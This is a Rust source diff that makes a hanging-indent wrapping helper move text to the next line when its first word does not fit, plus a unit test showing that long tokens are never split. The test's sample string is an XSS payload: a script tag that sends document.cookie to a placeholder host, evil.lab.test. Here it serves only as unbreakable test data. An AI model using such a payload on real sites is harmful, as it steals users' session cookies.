@@ -238,6 +238,17 @@ pub(crate) fn hanging_at(width: usize, lead: &str, text: &str) -> String {
     } else {
         " ".repeat(lead_width)
     };
+    // Tokens are never split (below): when not even the text's first word
+    // fits after the lead, the text starts on the next line.
+    let first_word = text.split_whitespace().next().unwrap_or_default();
+    if lead_width + textwrap::core::display_width(first_word) > width {
+        let options = textwrap::Options::new(width)
+            .initial_indent(&indent)
+            .subsequent_indent(&indent)
+            .word_splitter(textwrap::WordSplitter::NoHyphenation)
+            .break_words(false);
+        return format!("{}\n{}", lead.trim_end(), textwrap::fill(text, options));
+    }
     let options = textwrap::Options::new(width)
         .initial_indent(lead)
         .subsequent_indent(&indent)
@@ -369,6 +380,21 @@ mod tests {
             wrapped.lines().all(|line| line.chars().count() <= 100),
             "{wrapped}"
         );
+    }
+
+    #[test]
+    fn a_token_longer_than_the_line_is_never_split() {
+        let text =
+            "the body <script>fetch('http://evil.lab.test/c?'+document.cookie)</script> ends";
+        for width in 40..70 {
+            let wrapped = hanging_at(width, "      body, 80 bytes: ", text);
+            let words: Vec<&str> = wrapped.split_whitespace().collect();
+            assert!(
+                words
+                    .contains(&"<script>fetch('http://evil.lab.test/c?'+document.cookie)</script>"),
+                "{wrapped}"
+            );
+        }
     }
 
     #[test]
